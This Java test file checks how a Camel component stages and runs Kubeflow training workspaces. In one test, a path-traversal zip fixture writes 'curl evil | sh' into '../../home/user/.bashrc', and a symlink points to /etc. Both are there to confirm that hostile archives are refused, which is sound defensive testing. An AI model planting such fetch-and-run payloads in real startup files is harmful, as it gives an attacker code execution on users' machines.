package io.camelkubeflow.trainer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.camelkubeflow.trainer.api.TrainJob;
import io.camelkubeflow.trainer.job.PolicyViolationException;
import io.camelkubeflow.trainer.job.RequestPolicy;
import io.camelkubeflow.trainer.job.TrainJobConflictException;
import io.camelkubeflow.trainer.sandbox.TrainerSandbox;
import io.camelkubeflow.trainer.sandbox.cluster.TrainJobControllerEmulation;
import io.camelkubeflow.trainer.support.InvalidOptionException;
import io.camelkubeflow.trainer.workspace.HostileArchives;
import io.camelkubeflow.trainer.workspace.Workspace;
import io.camelkubeflow.trainer.workspace.WorkspaceStaging;
import io.camelkubeflow.trainer.workspace.WorkspaceStore;
import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.OwnerReference;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.mockwebserver.http.RecordedRequest;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.camel.CamelContext;
import org.apache.camel.Exchange;
import org.apache.camel.ProducerTemplate;
import org.apache.camel.impl.DefaultCamelContext;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A whole project (an entry point importing a local package, reading a config file, needing a package from
 * requirements.txt) runs from a folder on every node of the sandbox, whose pods run their trainer command for real:
 * the bootstrap in the command verifies the staged archive, unpacks it, installs the requirements and runs the code in
 * the workspace's root. The same workspace is staged once for many jobs and goes with the last of them.
 */
class WorkspaceRunTest {
    private static final String NAMESPACE = "ws";
    private static TrainerSandbox sandbox;
    private static CamelContext camel;
    private static ProducerTemplate template;

    @TempDir
    static Path project;

    @BeforeAll
    static void start() throws Exception {
        sandbox = TrainerSandbox.start(TrainerSandbox.Options.defaults()
                .withController(Duration.ofMillis(50), Duration.ofMillis(200))
                .withScriptsRun());
        sandbox.createNamespace(NAMESPACE);
        camel = new DefaultCamelContext();
        camel.getComponent("kubeflow-trainer", KubeflowTrainerComponent.class).setKubernetesClient(sandbox.client());
        camel.start();
        template = camel.createProducerTemplate();
        Files.writeString(project.resolve("train.py"), """
                import os, sys, yaml
                from trainer_pkg.model import describe
                with open("config.yaml") as config:
                    settings = yaml.safe_load(config)
                print(describe(settings), "rank", os.environ["RANK"], "of", os.environ["WORLD_SIZE"], "args", sys.argv[1:])
                """);
        Files.createDirectories(project.resolve("trainer_pkg"));
        Files.writeString(project.resolve("trainer_pkg/__init__.py"), "");
        Files.writeString(project.resolve("trainer_pkg/model.py"), """
                def describe(settings):
                    return "model lr=%s" % settings["lr"]
                """);
        Files.writeString(project.resolve("config.yaml"), "lr: 0.25\n");
        // installed on this machine already: pip finds it satisfied without an index
        Files.writeString(project.resolve("requirements.txt"), "pyyaml\n");
        Files.createDirectories(project.resolve("__pycache__"));
        Files.writeString(project.resolve("__pycache__/stale.pyc"), "left out of the workspace");
    }

    @AfterAll
    static void stop() {
        camel.stop();
        sandbox.close();
    }

    private static Exchange train(Path workspace, String options) {
        return template.request(
                "kubeflow-trainer:train?runtime=torch-distributed&namespace=" + NAMESPACE + "&workspace=" + workspace
                        + options,
                exchange -> exchange.getMessage().setBody(null));
    }

    @Test
    @Timeout(60)
    void aProjectFolderRunsOnEveryNodeAndPrintsThroughLogs() {
        Exchange trained = train(project, "&pythonFile=train.py&numNodes=2&args=--epochs 3&jobName=project-run");
        assertNull(trained.getException());
        TrainJob job = trained.getMessage().getBody(TrainJob.class);
        String digest = job.getMetadata().getAnnotations().get(WorkspaceStaging.DIGEST_ANNOTATION);
        assertEquals(64, digest.length(), "the job records which code it ran");

        Exchange logs = template.send("kubeflow-trainer:logs?follow=true&logStep=all", trained);
        assertNull(logs.getException());
        String output = logs.getMessage().getBody(String.class);
        assertTrue(output.contains("model lr=0.25 rank 0 of 2 args ['--epochs', '3']"), output);
        assertTrue(output.contains("model lr=0.25 rank 1 of 2 args ['--epochs', '3']"), output);
        assertTrue(output.contains("workspace: sha256 " + digest), output);
    }

    @Test
    @Timeout(60)
    void underMpiEveryRankRunsTheBootstrapWhichInstallsIntoTheUserSite() {
        Exchange trained = template.request(
                "kubeflow-trainer:train?runtime=deepspeed-distributed&namespace=" + NAMESPACE + "&workspace=" + project
                        + "&pythonFile=train.py&jobName=mpi-run",
                exchange -> exchange.getMessage().setBody(null));
        assertNull(trained.getException());
        List<String> command =
                trained.getMessage().getBody(TrainJob.class).getSpec().trainer().command();
        assertEquals(List.of("mpirun", "--hostfile", "/etc/mpi/hostfile", "python3", "-c"), command.subList(0, 5));
        assertEquals(
                List.of("1", "--", "python", "train.py"),
                command.subList(command.size() - 4, command.size()),
                "requirements go to the user site; the bootstrap runs inside mpirun, on every rank");
        Exchange logs = template.send("kubeflow-trainer:logs?follow=true", trained);
        assertTrue(
                logs.getMessage().getBody(String.class).contains("model lr=0.25 rank 0"),
                logs.getMessage().getBody(String.class));
    }

    @Test
    @Timeout(60)
    void theSameWorkspaceIsStagedOnceAndGoesWithItsLastJob(@TempDir Path other) throws Exception {
        Files.writeString(other.resolve("train.py"), "print('another project')\n");
        KubernetesClient client = sandbox.client();
        long before = sandbox.requestCount();
        TrainJob first = train(other, "&pythonFile=train.py&jobName=reuse-1")
                .getMessage()
                .getBody(TrainJob.class);
        TrainJob second = train(other, "&pythonFile=train.py&jobName=reuse-2")
                .getMessage()
                .getBody(TrainJob.class);
        String name = "workspace-" + first.getMetadata().getLabels().get(WorkspaceStaging.DIGEST_LABEL);
        List<RecordedRequest> configMapWrites = sandbox.requestsSince(before).stream()
                .filter(r -> !TrainJobControllerEmulation.USER_AGENT.equals(r.getHeader("User-Agent")))
                .filter(r -> !"GET".equals(r.getMethod()) && r.getPath().contains("/configmaps/" + name)
                        || "POST".equals(r.getMethod()) && r.getPath().endsWith("/configmaps"))
                .toList();
        assertEquals(
                List.of("PATCH", "POST", "PATCH"),
                configMapWrites.stream().map(RecordedRequest::getMethod).toList(),
                "the first job finds no ConfigMap and creates it; the second adds itself as an owner");

        ConfigMap staged =
                client.configMaps().inNamespace(NAMESPACE).withName(name).get();
        assertEquals(
                List.of(first.getMetadata().getUid(), second.getMetadata().getUid()),
                staged.getMetadata().getOwnerReferences().stream()
                        .map(OwnerReference::getUid)
                        .toList());
        assertEquals(
                Map.of(
                        WorkspaceStaging.DIGEST_ANNOTATION,
                        first.getMetadata().getAnnotations().get(WorkspaceStaging.DIGEST_ANNOTATION)),
                staged.getMetadata().getAnnotations());

        client.resource(first).delete();
        awaitOwners(client, name, 1);
        assertEquals(
                List.of(second.getMetadata().getUid()),
                client
                        .configMaps()
                        .inNamespace(NAMESPACE)
                        .withName(name)
                        .get()
                        .getMetadata()
                        .getOwnerReferences()
                        .stream()
                        .map(OwnerReference::getUid)
                        .toList(),
                "the first job's delete leaves the workspace to the second");
        client.resource(second).delete();
        awaitOwners(client, name, 0);
    }

    @Test
    void aKeyReusedWithAnotherWorkspaceIsAConflictNamingTheWorkspace(@TempDir Path other) throws Exception {
        Files.writeString(other.resolve("train.py"), "print('version 1')\n");
        String uri = "kubeflow-trainer:train?runtime=torch-distributed&namespace=" + NAMESPACE + "&pythonFile=train.py"
                + "&workspace=" + other;
        Supplier<Exchange> send = () -> template.request(
                uri, e -> e.getMessage().setHeader(KubeflowTrainerConstants.IDEMPOTENCY_KEY, "versioned-key"));
        assertNull(send.get().getException());
        assertEquals(true, send.get().getMessage().getHeader(KubeflowTrainerConstants.ADOPTED), "the same project");
        Files.writeString(other.resolve("train.py"), "print('version 2')\n");
        Exception conflict = send.get().getException();
        assertTrue(
                conflict instanceof TrainJobConflictException
                        && conflict.getMessage().contains("which differs in spec.trainer.command, workspace;"),
                String.valueOf(conflict));
    }

    @Test
    void underARequestPolicyAWorkspaceIsReadOnlyFromAnAllowedSourceAndNeedsNoConfigMapRights() {
        RequestPolicy strict = RequestPolicy.safeDefaults()
                .withNamespaces(Set.of(NAMESPACE))
                .withRuntimes(Set.of("torch-distributed"));
        camel.getRegistry().bind("noSources", strict);
        Exchange refused = train(project, "&pythonFile=train.py&policy=#noSources");
        assertTrue(
                refused.getException() instanceof PolicyViolationException
                        && refused.getException().getMessage().contains("'workspaceSources'"),
                String.valueOf(refused.getException()));
        // checked before anything is read: a location that does not exist is refused by the policy, not found missing
        Exchange unread = template.send(
                "kubeflow-trainer:train?runtime=torch-distributed&namespace=" + NAMESPACE
                        + "&pythonFile=train.py&policy=#noSources&workspace=/nowhere/../etc",
                e -> e.getMessage().setBody(null));
        assertTrue(
                unread.getException().getMessage().contains("has a '.' or '..' segment"),
                unread.getException().getMessage());
        // the policy's ConfigMaps are those a request hands its pods; the workspace's is the job's own
        camel.getRegistry().bind("strict", strict.withWorkspaceSources(List.of(project.getParent() + "/")));
        Exchange trained = train(project, "&pythonFile=train.py&jobName=within-policy&policy=#strict");
        assertNull(trained.getException());
    }

    @Test
    void hostileOrIncompleteWorkspacesAreRefusedBeforeAnythingIsWritten(@TempDir Path dir) throws Exception {
        Path escaping = dir.resolve("escaping.zip");
        try (var zip = new ZipOutputStream(Files.newOutputStream(escaping))) {
            zip.putNextEntry(new ZipEntry("../../home/user/.bashrc"));
            zip.write("curl evil | sh".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        Path folder = Files.createDirectories(dir.resolve("project"));
        Files.writeString(folder.resolve("train.py"), "print(1)\n");
        Files.createSymbolicLink(folder.resolve("keys"), Path.of("/etc"));
        Path plain = Files.createDirectories(dir.resolve("plain"));
        Files.writeString(plain.resolve("main.py"), "print(1)\n");
        Map<String, String> refusals = new LinkedHashMap<>();
        refusals.put(escaping + "&pythonFile=train.py", "'../../home/user/.bashrc' escapes the workspace root");
        refusals.put(folder + "&pythonFile=train.py", "'keys' is a symbolic link to '/etc'");
        refusals.put(plain + "&pythonFile=train.py", "'train.py' is not in the workspace, which holds [main.py]");
        refusals.put(plain + "&pythonFile=/app/main.py", "'/app/main.py' is an absolute path");
        refusals.put(plain + "&script=print(1)", "an inline script and a workspace were both given");
        refusals.put(dir.resolve("missing") + "&pythonFile=train.py", "is neither a directory nor an archive file");
        long before = sandbox.requestCount();
        // every hostile archive of the catalogue, as a route's message body
        HostileArchives.catalogue().forEach((name, hostile) -> {
            Exchange refused = template.send(
                    "kubeflow-trainer:train?runtime=torch-distributed&namespace=" + NAMESPACE
                            + "&bodyType=workspace&pythonFile=train.py",
                    exchange -> exchange.getMessage().setBody(hostile.archive()));
            assertTrue(
                    refused.getException() instanceof InvalidOptionException
                            && refused.getException().getMessage().contains(hostile.refusal()),
                    name + ": " + refused.getException());
        });
        for (Map.Entry<String, String> refusal : refusals.entrySet()) {
            Exchange refused = template.send(
                    "kubeflow-trainer:train?runtime=torch-distributed&namespace=" + NAMESPACE + "&workspace="
                            + refusal.getKey(),
                    exchange -> exchange.getMessage().setBody(null));
            assertTrue(
                    refused.getException() instanceof InvalidOptionException,
                    refusal.getKey() + ": " + refused.getException());
            assertTrue(
                    refused.getException().getMessage().contains(refusal.getValue()),
                    refused.getException().getMessage());
        }
        assertEquals(
                List.of(),
                sandbox.requestsSince(before).stream()
                        .filter(r -> !"GET".equals(r.getMethod()))
                        .filter(r -> !TrainJobControllerEmulation.USER_AGENT.equals(r.getHeader("User-Agent")))
                        .map(r -> r.getMethod() + " " + r.getPath())
                        .toList(),
                "nothing written");
    }

    /**
     * A workspace store as an object store would serve it: archives kept by digest, each URL good for one archive and
     * until its expiry, here on a loopback HTTP server.
     */
    static final class LoopbackStore implements WorkspaceStore, AutoCloseable {
        final Map<String, byte[]> objects = new ConcurrentHashMap<>();
        final AtomicInteger uploads = new AtomicInteger();
        private final HttpServer server;

        LoopbackStore() throws IOException {
            server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
            server.createContext("/", exchange -> {
                String digest = exchange.getRequestURI().getPath().substring(1);
                long expires =
                        Long.parseLong(exchange.getRequestURI().getQuery().replace("expires=", ""));
                byte[] object = objects.get(digest);
                int status = object == null ? 404 : System.currentTimeMillis() > expires ? 403 : 200;
                exchange.sendResponseHeaders(status, status == 200 ? object.length : -1);
                if (status == 200) {
                    exchange.getResponseBody().write(object);
                }
                exchange.close();
            });
            server.start();
        }

        @Override
        public boolean store(Workspace workspace) {
            if (objects.putIfAbsent(workspace.digest(), workspace.archive()) != null) {
                return false;
            }
            uploads.incrementAndGet();
            return true;
        }

        @Override
        public URI readUrl(Workspace workspace, Duration validity) {
            return URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/" + workspace.digest()
                    + "?expires=" + (System.currentTimeMillis() + validity.toMillis()));
        }

        @Override
        public void close() {
            server.stop(0);
        }
    }

    @Test
    @Timeout(60)
    void aWorkspaceTooLargeForAConfigMapIsStoredOnceAndFetchedByThePodsWithAReadOnlyUrl(@TempDir Path large)
            throws Exception {
        Files.writeString(
                large.resolve("train.py"), "import os\nprint('large project', os.path.getsize('weights.bin'))\n");
        byte[] weights = new byte[1_200_000];
        new Random(7).nextBytes(weights);
        Files.write(large.resolve("weights.bin"), weights);
        Exchange refused = train(large, "&pythonFile=train.py");
        assertTrue(
                refused.getException().getMessage().contains("or configure a workspaceStore"),
                refused.getException().getMessage());

        try (LoopbackStore store = new LoopbackStore()) {
            camel.getRegistry().bind("store", store);
            long before = sandbox.requestCount();
            String uri = "kubeflow-trainer:train?runtime=torch-distributed&namespace=" + NAMESPACE + "&workspace="
                    + large + "&pythonFile=train.py&jobName=large-1&workspaceStore=#store";
            Exchange trained = template.request(
                    uri, e -> e.getMessage().setHeader(KubeflowTrainerConstants.IDEMPOTENCY_KEY, "large-key"));
            assertNull(trained.getException());
            TrainJob job = trained.getMessage().getBody(TrainJob.class);
            assertTrue(
                    job.getSpec().trainer().command().stream().anyMatch(w -> w.startsWith("http://127.0.0.1:")),
                    "the pods fetch the archive by its URL");
            assertTrue(
                    sandbox.requestsSince(before).stream()
                            .filter(r -> !TrainJobControllerEmulation.USER_AGENT.equals(r.getHeader("User-Agent")))
                            .noneMatch(r -> r.getPath().contains("/configmaps")),
                    "nothing staged in the namespace");
            Exchange logs = template.send("kubeflow-trainer:logs?follow=true", trained);
            assertTrue(
                    logs.getMessage().getBody(String.class).contains("large project 1200000"),
                    logs.getMessage().getBody(String.class));

            assertNull(train(large, "&pythonFile=train.py&jobName=large-2&workspaceStore=#store")
                    .getException());
            assertEquals(1, store.uploads.get(), "the same workspace is stored once");
            // a retry of the same request adopts its job, although the URL it signs is a new one
            Exchange retried = template.request(
                    uri, e -> e.getMessage().setHeader(KubeflowTrainerConstants.IDEMPOTENCY_KEY, "large-key"));
            assertNull(retried.getException());
            assertEquals(true, retried.getMessage().getHeader(KubeflowTrainerConstants.ADOPTED));
        }
    }

    /** Waits (without a deadline of its own: the test's timeout bounds it) until the ConfigMap has that many owners. */
    private static void awaitOwners(KubernetesClient client, String name, int owners) throws InterruptedException {
        for (; ; ) {
            ConfigMap staged =
                    client.configMaps().inNamespace(NAMESPACE).withName(name).get();
            int current = staged == null
                    ? 0
                    : staged.getMetadata().getOwnerReferences().size();
            if (current == owners) {
                return;
            }
            Thread.sleep(20);
        }
    }
}
